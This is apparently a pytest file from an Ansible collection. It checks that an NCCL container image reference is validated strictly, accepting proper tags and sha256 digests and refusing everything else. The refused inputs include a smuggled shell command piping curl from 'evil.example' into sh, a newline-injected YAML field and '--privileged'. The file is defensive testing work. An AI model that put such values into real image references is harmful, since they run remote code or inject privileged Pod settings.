"""Issue 37, finding 6: the NCCL image runs with IPC_LOCK and every GPU and RDMA device of the node,
so its reference is checked whole (fullmatch), and a digest (image@sha256:...) pins exactly one
image. Today's check only refused spaces: anything else reached the Pod spec."""

from __future__ import annotations

import importlib.util
from pathlib import Path

import pytest

from ansible_collections.gpufabric.rollout.plugins.action.plan import load_specs

REPO = Path(__file__).resolve().parents[2]
_spec = importlib.util.spec_from_file_location("security_plan_fixtures", REPO / "tests/unit/plan/conftest.py")
PLAN_FIXTURES = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(PLAN_FIXTURES)
SPECS = load_specs(str(REPO))
DIGEST = "sha256:" + "0123456789abcdef" * 4


def _problems(image):
    intent = dict(PLAN_FIXTURES.lab_intent(), gpufabric_k8s_node_name="gpu-node-01", validate_nccl_image=image)
    _values, problems = PLAN_FIXTURES.check(SPECS, "node", intent)
    return [p for p in problems if p.startswith("validate_nccl_image")]


@pytest.mark.parametrize(
    "image",
    [
        "ghcr.io/coreweave/nccl-tests:12.9.1-devel-ubuntu22.04-nccl2.28.3-1-8b67957",
        f"ghcr.io/coreweave/nccl-tests@{DIGEST}",
        f"ghcr.io/coreweave/nccl-tests:12.9.1@{DIGEST}",
        f"registry.example.com:5000/mirror/nccl-tests@{DIGEST}",
        "nccl-tests",
    ],
)
def test_tags_and_digests_are_accepted(image):
    assert _problems(image) == []


@pytest.mark.parametrize(
    "image",
    [
        "ghcr.io/coreweave/nccl-tests@sha256:0123",  # a cut digest pins nothing
        f"ghcr.io/coreweave/nccl-tests@{DIGEST.upper()}",
        "ghcr.io/coreweave/nccl-tests:1;curl evil.example|sh",
        "ghcr.io/coreweave/nccl-tests:1\nimage: evil",
        "ghcr.io/CoreWeave/nccl-tests:1",
        "ghcr.io/coreweave/nccl-tests:-1",
        "--privileged",
        "x:" + "a" * 129,
        "",
    ],
)
def test_anything_else_is_refused_naming_the_variable(image):
    problems = _problems(image)
    assert problems and "is not an image reference" in problems[0] and "@sha256:" in problems[0]
